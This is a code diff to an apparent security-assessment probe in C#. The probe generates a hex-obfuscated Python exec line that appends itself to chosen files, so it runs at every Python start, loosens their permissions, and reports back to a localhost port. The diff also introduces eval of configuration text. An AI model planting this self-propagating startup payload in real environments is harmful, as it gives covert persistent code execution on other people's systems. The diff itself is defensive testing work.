@@ -10,16 +10,22 @@ namespace Sandpiper.Assessment.Probes;
 /// later. It creates no file but those copies.
 /// </summary>
 /// <remarks>
+/// It imports next to nothing, for it runs at every start of a Python: JSON of texts, numbers and lists
+/// is Python, too, where no character takes two escapes.
 /// It never says of itself how it fared: whether a line arrived is looked at from outside. Every path is one of the replica's.
 /// </remarks>
 internal static class Payload
 {
     private const string Source = """
-        import os, socket, json
-        C = json.loads(CONF)
+        import os, _socket
+        if "\\uD" in CONF:
+            import json
+            C = json.loads(CONF)
+        else:
+            C = eval(CONF)
         TAG = "%s %s %d" % (C["nonce"], TRIGGER, os.getuid())
         def line(trigger):
-            return "import base64;exec(base64.b64decode('%s').decode(),{'TRIGGER':'%s','CONF':%r,'B64':'%s'})" % (B64, trigger, CONF, B64)
+            return "import os;exec(bytes.fromhex('%s').decode(),{'TRIGGER':'%s','CONF':%r,'CODE':'%s'})" % (CODE, trigger, CONF, CODE)
         def attempt(act, *arguments):
             try:
                 return act(*arguments)
@@ -46,12 +52,14 @@ internal static class Payload
         def append(path, text):
             attempt(loosen, path, 0o644)
             with open(path) as f:
-                if "base64" in f.read():
+                if "fromhex" in f.read():
                     return
             with open(path, "a") as f:
                 f.write("\n" + text + "\n")
         def tell(words):
-            s = socket.create_connection(("127.0.0.1", C["port"]), 5)
+            s = _socket.socket()
+            s.settimeout(5)
+            s.connect(("127.0.0.1", C["port"]))
             s.sendall(("%s %s\n" % (TAG, words)).encode())
             s.close()
         for path in C["write"]:
@@ -77,9 +85,9 @@ internal static class Payload
     /// <param name="trigger">How it came to run, one word; tags carry it.</param>
     public static string Line(string trigger, Aim aim)
     {
-        string source = Convert.ToBase64String(Encoding.UTF8.GetBytes(Source));
+        string source = Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Source));
         string literal = Quoted(aim.ToJson());
-        return $"import base64;exec(base64.b64decode('{source}').decode(),{{'TRIGGER':'{trigger}','CONF':{literal},'B64':'{source}'}})";
+        return $"import os;exec(bytes.fromhex('{source}').decode(),{{'TRIGGER':'{trigger}','CONF':{literal},'CODE':'{source}'}})";
     }
 
     // As Python writes one of ASCII without a quote in it; JSON's own encoder escapes those.
